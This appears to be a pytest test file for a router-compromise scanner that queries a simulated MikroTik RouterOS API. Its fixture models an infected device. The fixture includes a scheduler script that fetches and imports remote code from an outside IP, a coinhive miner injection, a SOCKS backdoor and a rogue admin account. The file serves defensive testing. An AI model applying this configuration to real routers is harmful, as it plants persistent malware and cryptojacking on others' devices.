"""Live devices over the RouterOS API: the real librouteros client against a loopback
server speaking the documented sentence encoding."""

from __future__ import annotations

import datetime
import ipaddress
import ssl
from collections.abc import Iterator
from pathlib import Path

import pytest

from minehunt.intel import Intel
from minehunt.report import Collector
from minehunt.router.audit import keep
from minehunt.router.live import DeviceError, Login, Method, fetch
from minehunt.router.scan import scan_devices
from tests.router.api_server import ApiServer, encode_length

PASSWORD = "Tr0ub4dor&3-never-printed"

# A compromised RouterOS 6.41 as its API prints it (values spelled as the API sends them).
CAMPAIGN = {
    "/system/resource": [{"version": "6.41.3 (stable)", "board-name": "hAP ac"}],
    "/ip/proxy": [{"enabled": "true", "port": "8080", "max-cache-size": "none"}],
    "/ip/proxy/access": [
        {".id": "*1", "action": "deny", "redirect-to": "", "disabled": "false"},
    ],
    "/ip/socks": [{"enabled": "true", "port": "4153"}],
    "/ip/socks/access": [
        {".id": "*1", "src-address": "95.154.216.128/25", "action": "allow", "disabled": "false"},
        {".id": "*2", "action": "deny", "disabled": "false"},
    ],
    "/ip/firewall/nat": [
        {".id": "*1", "chain": "srcnat", "action": "masquerade", "out-interface": "ether1"},
        {
            ".id": "*2",
            "chain": "dstnat",
            "action": "redirect",
            "protocol": "tcp",
            "dst-port": "80",
            "to-ports": "8080",
            "disabled": "false",
        },
    ],
    "/ip/firewall/filter": [],
    "/system/scheduler": [
        {
            ".id": "*1",
            "name": "upd113",
            "on-event": "script3_",
            "interval": "00:03:00",
            "disabled": "false",
        }
    ],
    "/system/script": [
        {
            ".id": "*1",
            "name": "script3_",
            "source": "/tool fetch address=95.154.216.164 port=2008 src-path=/mikrotik.php "
            "mode=http dst-path=mikrotik.php\r\n:delay 3s\r\n/import mikrotik.php\r\n"
            "/system scheduler remove [find name!=upd113]",
        }
    ],
    "/ip/dns": [{"allow-remote-requests": "true", "servers": "8.8.8.8"}],
    "/ip/dns/static": [{".id": "*1", "name": "coinhive.com", "address": "95.154.216.167"}],
    "/ip/dns/cache": [{".id": "*1", "name": "gulf.moneroocean.stream", "address": "1.2.3.4"}],
    "/user": [
        {".id": "*1", "name": "admin", "group": "full", "disabled": "false"},
        {".id": "*2", "name": "ftu", "group": "full", "disabled": "false"},
    ],
    "/user/group": [],
    "/user/active": [{".id": "*5", "name": "ftu", "address": "95.154.216.130", "via": "api"}],
    "/file": [
        {
            ".id": "*1",
            "name": "webproxy/error.html",
            "type": ".html file",
            "contents": '<script src="https://coinhive.com/lib/coinhive.min.js"></script>',
        }
    ],
    "/ip/service": [
        {".id": "*1", "name": "telnet", "port": "23", "address": "", "disabled": "false"},
        {".id": "*2", "name": "winbox", "port": "8291", "address": "", "disabled": "false"},
    ],
    "/interface/list/member": [{".id": "*1", "list": "WAN", "interface": "ether1"}],
    "/ip/dhcp-client": [{".id": "*1", "interface": "ether1", "disabled": "false"}],
    "/interface/pppoe-client": [],
}


@pytest.fixture
def server() -> Iterator[ApiServer]:
    srv = ApiServer("audit", PASSWORD, {k: v for k, v in CAMPAIGN.items()})
    yield srv
    srv.close()


def _login(srv: ApiServer, **kw: object) -> Login:
    args: dict[str, object] = {
        "host": "127.0.0.1",
        "user": "audit",
        "method": Method.API,
        "port": srv.port,
        "password": PASSWORD,
        "timeout": 5.0,
    }
    args.update(kw)
    return Login(**args)  # type: ignore[arg-type]


def test_length_encoding_matches_the_documented_table() -> None:
    assert encode_length(0x7F) == b"\x7f"
    assert encode_length(0x80) == b"\x80\x80"
    assert encode_length(0x3FFF) == b"\xbf\xff"
    assert encode_length(0x4000) == b"\xc0\x40\x00"
    assert encode_length(0x200000) == b"\xe0\x20\x00\x00"
    assert encode_length(0x10000000) == b"\xf0\x10\x00\x00\x00"


def test_api_campaign_found_read_only(server: ApiServer, intel: Intel) -> None:
    col = Collector("scan router")
    found = list(scan_devices([_login(server)], intel, col))
    by_id = {f.check_id: f for f in found}
    for cid in ("001", "002", "003", "004", "005", "006", "007", "008", "009", "010"):
        assert f"MH-ROUTER-{cid}" in by_id, cid
    assert by_id["MH-ROUTER-006"].severity.value == "high"
    assert by_id["MH-ROUTER-010"].severity.value == "high"  # 6.41.3: CVE-2018-14847
    assert by_id["MH-ROUTER-001"].severity.value == "critical"
    assert "logged in now from 95.154.216.130 via api" in by_id["MH-ROUTER-009"].summary
    assert by_id["MH-ROUTER-014"].severity.value == "medium"  # empty input chain, WAN known
    assert by_id["MH-ROUTER-002"].target.url == f"api://127.0.0.1:{server.port}"
    assert all(c == "/login" or c.endswith("/print") for c in server.commands), server.commands
    assert col.skipped == []


def test_api_wrong_password_is_a_clear_error(server: ApiServer, intel: Intel) -> None:
    login = _login(server, password="wrong-" + PASSWORD)
    with pytest.raises(DeviceError, match="login refused for user 'audit'") as e:
        fetch(login, keep)
    assert PASSWORD not in str(e.value)
    assert server.commands == ["/login"]


def test_api_challenge_login_of_old_routeros(intel: Intel) -> None:
    srv = ApiServer("audit", PASSWORD, CAMPAIGN, challenge_login=True)
    try:
        config = fetch(_login(srv), keep)
        assert config.singleton("/system resource")["version"].startswith("6.41.3")
        assert srv.commands[:2] == ["/login", "/login"]
    finally:
        srv.close()


def test_api_timeout_and_close_mid_read() -> None:
    silent = ApiServer("audit", PASSWORD, CAMPAIGN, silent=True)
    try:
        with pytest.raises(DeviceError, match="timed out after 1s logging in"):
            fetch(_login(silent, timeout=1.0), keep)
    finally:
        silent.close()
    closing = ApiServer("audit", PASSWORD, CAMPAIGN, close_on="/ip/firewall/nat")
    try:
        with pytest.raises(DeviceError, match="closed the connection reading /ip/firewall/nat"):
            fetch(_login(closing), keep)
    finally:
        closing.close()


def test_api_refused_menu_is_skipped_rest_checked(intel: Intel) -> None:
    menus = {k: v for k, v in CAMPAIGN.items() if k != "/ip/dns/cache"}
    srv = ApiServer("audit", PASSWORD, menus)
    try:
        config = fetch(_login(srv), keep)
        assert any("/ip/dns/cache/print refused" in (n.reason or "") for n in config.skipped)
        assert config.menu("/system scheduler")
    finally:
        srv.close()


def _self_signed(tmp_path: Path) -> ssl.SSLContext:
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "router")])
    now = datetime.datetime.now(datetime.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(
            x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]),
            critical=False,
        )
        .sign(key, hashes.SHA256())
    )
    (tmp_path / "cert.pem").write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    (tmp_path / "key.pem").write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(tmp_path / "cert.pem", tmp_path / "key.pem")
    return ctx


def test_api_ssl_with_and_without_ca(tmp_path: Path) -> None:
    srv = ApiServer("audit", PASSWORD, CAMPAIGN, tls=_self_signed(tmp_path))
    try:
        config = fetch(_login(srv, tls=True, ca_file=str(tmp_path / "cert.pem")), keep)
        assert config.source == f"api-ssl://127.0.0.1:{srv.port}"
        assert config.menu("/ip socks access")
        assert fetch(_login(srv, tls=True), keep).menu("/ip proxy")  # unverified, encrypted
        other = tmp_path / "other"
        other.mkdir()
        _self_signed(other)
        with pytest.raises(DeviceError, match="TLS failed"):
            fetch(_login(srv, tls=True, ca_file=str(other / "cert.pem")), keep)
    finally:
        srv.close()
